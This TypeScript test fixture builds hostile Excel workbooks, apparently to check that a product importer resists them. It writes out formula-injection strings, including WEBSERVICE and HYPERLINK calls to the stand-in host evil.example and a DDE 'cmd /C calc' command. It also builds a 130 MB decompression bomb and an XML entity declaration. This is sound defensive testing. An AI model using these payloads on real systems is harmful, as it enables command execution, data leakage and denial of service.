import { hostileProductId, payloads, scriptedRows, type HostileFeed } from '#importers/hostile-feeds.fixture.ts';
import { archiveOf, formula, workbookFiles, workbookOf } from './table.fixture.ts';

/** The number of the first product of `scripts.xlsx`, as `hostileProductId` takes it. */
export const firstScriptedProduct = 400;

const formulas = ['HYPERLINK("https://evil.example","klik")', "cmd|'/C calc'!A0", 'WEBSERVICE("https://evil.example")', '@SUM(1+1)'];

/** A workbook whose shared texts take 130 MB unpacked and less than a megabyte packed. */
export const workbookBomb = (): Promise<Buffer> => {
  const files = workbookFiles([
    {
      name: 'Blad',
      rows: [
        ['EAN', 'Titel'],
        [hostileProductId(500), 'Een'],
      ],
    },
  ]);
  return archiveOf({ ...files, 'xl/sharedStrings.xml': Buffer.alloc(130 * 1024 * 1024, ' ') });
};

/** Workbooks that are meant to hurt. `mark` is the name of a function that no page may call. */
export async function hostileWorkbooks(mark: string): Promise<readonly HostileFeed[]> {
  const calculated = formulas.map((text, number) => [hostileProductId(510 + number), formula(text), formula(text, text)]);
  const entities = workbookFiles([{ name: 'Blad', rows: [['EAN', 'Titel']] }]);
  return [
    { name: 'scripts.xlsx', content: await workbookOf({ name: 'Blad', rows: scriptedRows(payloads(mark), firstScriptedProduct) }) },
    { name: 'formulas.xlsx', content: await workbookOf({ name: 'Blad', rows: [['EAN', 'Titel', 'Omschrijving'], ...calculated] }) },
    { name: 'bomb.xlsx', content: await workbookBomb() },
    {
      name: 'entities.xlsx',
      content: await archiveOf({ ...entities, 'xl/workbook.xml': `<!DOCTYPE x [<!ENTITY a "b">]>${entities['xl/workbook.xml']}` }),
    },
  ];
}
